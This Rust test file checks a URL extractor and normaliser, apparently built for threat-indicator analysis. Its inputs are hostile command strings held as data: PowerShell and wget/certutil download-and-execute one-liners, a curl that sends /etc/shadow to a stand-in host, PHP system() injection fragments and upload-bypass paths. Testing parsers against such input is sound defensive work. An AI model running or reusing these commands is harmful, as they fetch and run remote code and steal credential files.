//! Where URLs end, and in which form each is told.

use super::*;

#[test]
fn urls_end_where_people_say_they_end() {
    let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
                file://z http:// ://";
    let found: Vec<_> = all(text).collect();
    assert_eq!(
        found,
        [
            "http://203.0.113.66/a.ps1",
            "https://x.example/a(b)?q=1",
            "ftp://y.example",
            "http://"
        ]
    );
}

#[test]
fn a_url_in_a_command_ends_before_the_next_command() {
    for (text, url) in [
        (
            "cd /tmp;wget http://192.0.2.1/a.sh;chmod 777 a.sh",
            "http://192.0.2.1/a.sh",
        ),
        ("wget http://192.0.2.1/a.sh;./a.sh", "http://192.0.2.1/a.sh"),
        ("wget http://192.0.2.1/a.sh;/tmp/a.sh", "http://192.0.2.1/a.sh"),
        ("iwr http://192.0.2.1/a.ps1;iex a", "http://192.0.2.1/a.ps1"),
        ("wget http://192.0.2.1/a&&chmod +x a", "http://192.0.2.1/a"),
        ("certutil -f http://192.0.2.1/a.exe&a.exe", "http://192.0.2.1/a.exe"),
        (
            "wget http://192.0.2.1/jaws;sh%20/tmp/jaws HTTP/1.1",
            "http://192.0.2.1/jaws",
        ),
        ("wget${IFS}http://192.0.2.1/a;chmod${IFS}777", "http://192.0.2.1/a"),
        ("curl http://192.0.2.1/?d=$(cat /etc/shadow)", "http://192.0.2.1/?d="),
        ("curl http://192.0.2.1/?a=1&b=2;id", "http://192.0.2.1/?a=1&b=2"),
        ("certutil -f http://192.0.2.1/a.sh;a.sh", "http://192.0.2.1/a.sh"),
        // Parameters, and what else belongs to one.
        (
            "curl \"http://x.example/;payload.exe\" z",
            "http://x.example/;payload.exe",
        ),
        ("curl 'http://x.example/a&sh' -o x", "http://x.example/a&sh"),
        (
            "see http://x.example/a/..;/manager/html z",
            "http://x.example/a/..;/manager/html",
        ),
        (
            "see http://x.example/shell.asp;.jpg z",
            "http://x.example/shell.asp;.jpg",
        ),
        ("see http://x.example/wiki/R&B z", "http://x.example/wiki/R&B"),
        ("see http://x.example/matrix;a;b=1 z", "http://x.example/matrix;a;b=1"),
        ("see http://x.example/;/x z", "http://x.example/;/x"),
        (
            "see http://x.example/?id=1;id=2&cat=3 z",
            "http://x.example/?id=1;id=2&cat=3",
        ),
        (
            "GET http://x.example/a;jsessionid=12 HTTP/1.1",
            "http://x.example/a;jsessionid=12",
        ),
        ("GET http://x.example/a;b/c HTTP/1.1", "http://x.example/a;b/c"),
        ("GET http://x.example/?a=1&flag HTTP/1.1", "http://x.example/?a=1&flag"),
        ("GET http://x.example/?a=1&&b=2 HTTP/1.1", "http://x.example/?a=1&&b=2"),
        (
            "GET http://x.example/?a=1&amp;b HTTP/1.1",
            "http://x.example/?a=1&amp;b",
        ),
        ("GET http://x.example/$metadata HTTP/1.1", "http://x.example/$metadata"),
        ("http://x.example/a;b", "http://x.example/a;b"),
    ] {
        assert_eq!(all(text).next(), Some(url), "{text}");
    }
}

#[test]
fn of_two_hosts_around_an_at_sign_either_may_be_meant() {
    let (bank, ip) = ("www.bank.example", "203.0.113.66".parse().unwrap());
    let both = [Host::Name(bank.to_owned()), Host::Ip(ip)];
    for between in [
        "'.x",
        "'",
        "',$x",
        "'--a'b@c'",
        "'';x=a",
        ";x=a",
        "&x=a",
        "\"x",
        "^x",
        "|x",
        "`x",
        "\\",
        "<x",
        "{x",
        "':'a",
    ] {
        for (before, after) in [("", "/a"), ("curl '", ""), ("x={'", "'}"), ("a://b?c=", "\" d")] {
            let written = format!("{before}http://{bank}{between}@203.0.113.66{after}");
            assert_eq!(disputes(&written).collect::<Vec<_>>(), both, "{written}");
            let led: Vec<_> = places(&written).collect();
            assert!(both.iter().all(|host| led.contains(host)), "{written}");
        }
    }
    for written in [
        "http://user:pw@evil.example/",
        "http://evil.example/b'-@203.0.113.66",
        "http://evil.example' x@203.0.113.66",
        "http://evil.example'?x@203.0.113.66",
        "http://evil.example;x",
        "mail://evil.example';x@203.0.113.66",
    ] {
        assert_eq!(disputes(written).next(), None, "{written}");
    }
}

#[test]
fn an_apostrophe_ends_a_url_only_where_one_began_it_or_nothing_follows() {
    for (text, expected) in [
        ("/a?x=http://evil.example/b'c", "http://evil.example/b'c"),
        ("http://evil.example/it's/d'%41'", "http://evil.example/it's/d'%41"),
        ("fetch('http://evil.example/b'c)", "http://evil.example/b"),
        ("wget http://evil.example/b' | sh", "http://evil.example/b"),
        ("'x http://evil.example/b'+'c'", "http://evil.example/b"),
        ("('http://evil.example/b','c')", "http://evil.example/b"),
        ("/a?x=http://evil.example/shell.txt'--", "http://evil.example/shell.txt"),
        (
            "/a?x=http://evil.example/shell.txt'/**/or",
            "http://evil.example/shell.txt",
        ),
        (
            "iex ('curl http://evil.example/a.exe'.Replace('x','y'))",
            "http://evil.example/a.exe",
        ),
        ("sh -c 'it''s; curl http://evil.example/a'_b", "http://evil.example/a"),
        ("it's here: http://evil.example/b'c", "http://evil.example/b'c"),
        (
            "users' files: http://evil.example/O'Neil/payload.exe",
            "http://evil.example/O'Neil/payload.exe",
        ),
        (
            "echo O'; wget http://evil.example/O'Neil.exe",
            "http://evil.example/O'Neil.exe",
        ),
        (
            r"echo 'it'\''s'; curl http://evil.example/x'y",
            "http://evil.example/x'y",
        ),
        (
            r"copy 'C:\x\' y; curl http://evil.example/x'y",
            "http://evil.example/x'y",
        ),
        (r"x = 'it\'s http://evil.example/a'_b", "http://evil.example/a"),
        (
            "/?x=http://evil.example/a.txt'.system('id')",
            "http://evil.example/a.txt",
        ),
        ("/?x=http://evil.example/a.txt'.$_GET[c].'", "http://evil.example/a.txt"),
        ("/?x=http://evil.example/a.txt'.@system(x)", "http://evil.example/a.txt"),
        ("/?x=http://evil.example/a.txt'.PHP_EOL.'", "http://evil.example/a.txt"),
        (
            "/?x=http://evil.example/a.txt'.print`id`.'",
            "http://evil.example/a.txt",
        ),
        ("/?x=http://evil.example/a.txt'.'x", "http://evil.example/a.txt"),
        ("curl http://evil.example/o'... | sh", "http://evil.example/o"),
        (
            "exec $'a\\n' \"b\" x='c' http://evil.example/x'y",
            "http://evil.example/x'y",
        ),
    ] {
        assert_eq!(all(text).collect::<Vec<_>>(), [expected], "{text}");
    }
    assert_eq!(
        escaped("x=http%3A%2F%2Fevil.example%2Fb'c&y=1 http%3A%2F%2Fevil.example%2Fd%27e"),
        ["http://evil.example/b'c", "http://evil.example/d'e"]
    );
}

#[test]
fn urls_inside_of_urls_count_too_and_so_does_what_stands_behind_an_unknown_scheme() {
    for (text, expected) in [
        (
            "https://a.example/?to=http://b.example/x.",
            &["https://a.example/?to=http://b.example/x", "http://b.example/x"][..],
        ),
        (
            "http://a.example/x,http://b.example/y",
            &["http://a.example/x,http://b.example/y", "http://b.example/y"],
        ),
        ("php://filter/resource=http://b.example/x", &["http://b.example/x"]),
        ("file:///c:/a;http://b.example/x", &["http://b.example/x"]),
    ] {
        assert_eq!(all(text).collect::<Vec<_>>(), expected, "{text}");
    }
    assert_eq!(all(&"http://".repeat(1_000)).count(), 1 + MAX_INSIDE);
}

#[test]
fn one_url_has_one_form_however_it_is_written() {
    for (form, spellings) in [
        (
            "http://evil.example/a",
            &[
                "http://evil.example/a",
                "HTTP://Evil.Example/a",
                "hxxp://evil.example/a",
                "http://evil.example:80/a",
                "http://evil.example:/a",
                "http://evil.example./a",
                "http://%65vil.example/%61",
            ][..],
        ),
        (
            "https://evil.example/",
            &["https://evil.example", "https://EVIL.example:443/"],
        ),
        ("https://evil.example/?a=1", &["https://evil.example?a=1"]),
        ("http://evil.example:443/", &["http://evil.example:443"]),
        ("http://evil.example/%2F%3A", &["http://evil.example/%2f%3a"]),
        (
            "http://203.0.113.10/x",
            &[
                "http://203.0.113.10/x",
                "http://3405803786/x",
                "http://0xCB00710A/x",
                "http://0313.0.0161.012/x",
                "http://203.28938/x",
                "http://[::ffff:203.0.113.10]/x",
            ],
        ),
        (
            "http://[2001:db8::1]:8080/x",
            &["http://[2001:db8:0:0:0:0:0:1]:8080/x", "http://[2001:DB8::0001]:8080/x"],
        ),
        (
            "http://evil.example/b%27c",
            &["http://evil.example/b'c", "http://evil.example/b%27c"],
        ),
        ("http://u:p@evil.example/", &["http://u:p@evil.example"]),
        ("http://u;x@evil.example/", &["http://u;x@evil.example/"]),
        (
            "http://evil.example/",
            &[
                "http://evil.example;id",
                "http://evil.example,x/y",
                "http://evil.example'x",
                "http://evil.example).Content",
                "http://evil.example;a@b",
            ],
        ),
        (
            "http://xn--bcher-kva.example/",
            &["http://b\u{fc}cher.example/", "http://xn--bcher-kva.example"],
        ),
    ] {
        for spelling in spellings {
            assert_eq!(
                Url::read(spelling).map(|url| url.text).as_deref(),
                Some(form),
                "{spelling}"
            );
        }
        assert_eq!(Url::read(form).unwrap().text, form, "one form is its own form");
    }
    for none in [
        "http://",
        "http:///x",
        "http://host/x",
        "http://a.pdf/x",
        "http://evil.example:port/",
        "file://evil.example/x",
        "http://[::1",
    ] {
        assert_eq!(Url::read(none), None, "{none}");
    }
}

#[test]
fn urls_inside_of_urls_are_found() {
    assert_eq!(
        escaped(
            "/?u=http%3A%2F%2Fevil.example%2Fa%20b&v=HTTPS%253a%252F%252Fx.example%252F&w=ftp:%2f%2fy.example 100% %3A%2F%2F"
        ),
        ["http://evil.example/a", "HTTPS://x.example/", "ftp://y.example"]
    );
}

#[test]
fn what_was_disarmed_is_armed_again() {
    assert_eq!(armed("hxxp[:]//evil[.]example/x"), "hxxp://evil.example/x");
    assert_eq!(armed("203[.]0(.)113{.}9 a[AT]b[dot]example"), "203.0.113.9 a@b.example");
    assert!(matches!(armed("f(x) [a] {b}"), Cow::Borrowed("f(x) [a] {b}")));
}

#[test]
fn where_a_host_begins_is_looked_for_no_further_than_its_url_goes() {
    for (piece, count) in [("http://a'", 100_000), ("x://a'b@", 100_000), ("%3a%2f%2fa'", 100_000)] {
        let text = piece.repeat(count);
        assert!(all(&text).count() <= count && places(&text).count() <= count && escaped(&text).len() <= count);
    }
}
